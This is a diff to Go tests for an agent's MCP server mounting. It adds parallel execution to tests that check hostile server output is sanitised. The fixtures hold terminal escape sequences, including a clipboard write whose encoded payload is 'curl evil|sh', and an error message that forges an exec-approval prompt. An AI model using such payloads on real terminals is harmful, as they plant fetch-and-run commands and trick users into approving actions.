@@ -18,6 +18,7 @@ import (
 // the agent's stderr (its log messages, shown on the trace) cannot drive
 // the terminal: escape sequences lose their introducers, the text stays.
 func TestMountWarningsDropControls(t *testing.T) {
+	t.Parallel()
 	const hostile = "disk\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;pwned\x07\x1b[2K\x1b[1A\u009b8m full"
 	srv := mcp.NewServer(&mcp.Implementation{Name: "h", Version: "v0"}, &mcp.ServerOptions{
 		Capabilities: &mcp.ServerCapabilities{Tools: &mcp.ToolCapabilities{}, Logging: &mcp.LoggingCapabilities{}},
@@ -109,6 +110,7 @@ func TestMountLogFlood(t *testing.T) {
 // of its own making among the agent's (a forged question, a forged
 // "agent:" line) before a real question.
 func TestMountWarningsOneLine(t *testing.T) {
+	t.Parallel()
 	var b strings.Builder
 	w := &warner{w: &b}
 	w.printf("mcp server %q (%s) left out: %v", "x", "x=http://h", errors.New("initialize: server said: no\n? x__rm can change things on this machine (exec). Run it with {}? [y/N] "))
